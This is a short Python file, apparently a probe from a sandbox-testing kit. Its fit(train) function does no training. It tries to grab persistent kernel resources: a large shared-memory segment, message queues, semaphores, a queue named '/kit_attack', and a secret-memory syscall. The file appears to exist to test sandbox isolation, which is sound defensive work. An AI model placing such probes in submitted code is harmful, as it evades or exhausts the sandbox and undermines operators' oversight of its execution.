# tries to get memory of the kernel's that no process has: segments, queues and semaphores
import ctypes

from arsenal import attempt, call, predict, system_call


def fit(train):
    attempt("segments", lambda: call("shmget", 0, ctypes.c_size_t(100 << 20), 0o1600))
    attempt("queues", lambda: call("msgget", 0, 0o1600))
    attempt("semaphores", lambda: call("semget", 0, 32000, 0o1600))
    attempt("queues with names", lambda: call("mq_open", b"/kit_attack", 0o102, 0o600, None))
    attempt("secret memory", lambda: system_call(447, 447, 0))
    return 0
